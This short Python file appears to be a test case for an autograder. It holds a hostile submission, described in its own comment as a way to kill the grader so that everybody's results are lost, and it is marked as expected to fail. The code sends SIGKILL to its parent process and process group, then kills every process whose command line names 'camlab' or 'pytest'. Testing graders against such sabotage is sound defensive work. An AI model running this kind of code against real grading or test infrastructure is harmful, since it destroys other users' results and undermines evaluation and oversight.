# Kill the grader (and anything named like it) so that everybody's results are lost.
# expect q1: !correct
# expect q2: !correct
# %%
import os, signal
for target in (os.getppid(), os.getpgid(0)):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            command = open(f"/proc/{entry}/cmdline", "rb").read()
            if b"camlab" in command or b"pytest" in command:
                os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
